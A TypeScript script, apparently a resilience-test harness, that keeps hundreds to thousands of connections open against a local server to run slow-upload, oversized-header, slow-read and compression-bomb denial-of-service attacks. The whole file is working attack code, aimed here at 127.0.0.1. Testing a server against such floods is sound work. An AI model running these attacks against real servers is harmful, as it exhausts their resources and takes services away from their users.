/** `attack.ts NAME PORT`: one of the attacks, until the process is killed. */
import { connect, type Socket } from "node:net";

const [name = "", port = ""] = process.argv.slice(2);

const HOST = "Host: localhost\r\n";
const SPREAD_MS = 200;

function open(onOpen: (socket: Socket) => void, again: () => void): void {
	const socket = connect({ port: Number(port), host: "127.0.0.1" }, () => onOpen(socket));
	socket.on("error", () => {});
	socket.on("close", () => setTimeout(again, SPREAD_MS + Math.random() * SPREAD_MS));
}

/** Keeps so many connections of one kind up. */
function keep(count: number, onOpen: (socket: Socket) => void): void {
	const start = (): void => open(onOpen, start);
	for (let index = 0; index < count; index++) setTimeout(start, index / 5);
}

function uploads(): void {
	keep(510, (socket) => {
		socket.resume();
		socket.write(`POST /app/upload HTTP/1.1\r\n${HOST}Content-Type: application/json\r\nContent-Length: 90000000\r\n\r\n`);
		const timer = setInterval(() => socket.write(" ".repeat(250)), 1000);
		socket.once("close", () => clearInterval(timer));
	});
}

function heads(count: number): void {
	let number = 0;
	const field = `X-Large: ${"x".repeat(60_000)}\r\n`;
	keep(count, (socket) => {
		socket.resume();
		socket.write(`GET /app/slow HTTP/1.1\r\n${HOST}${field}${number++ % 2 === 0 ? "\r\n" : ""}`);
	});
}

/** Every second client reads as slowly as it can. */
function pages(path: string): void {
	let number = 0;
	keep(100, (socket) => {
		socket.write(`GET ${path} HTTP/1.1\r\n${HOST}Accept-Encoding: gzip\r\nConnection: close\r\n\r\n`);
		if (number++ % 2 === 0) return void socket.resume();
		const timer = setInterval(() => socket.read(4096), 100);
		socket.once("close", () => clearInterval(timer));
	});
}

const ATTACKS: Readonly<Record<string, () => void>> = {
	uploads,
	heads: () => heads(5000),
	pages: () => pages("/pages/page"),
	bombs: () => pages("/pages/bomb"),
};
const attack = ATTACKS[name];
if (attack === undefined) throw new Error(`one of ${Object.keys(ATTACKS).join(", ")}`);
attack();
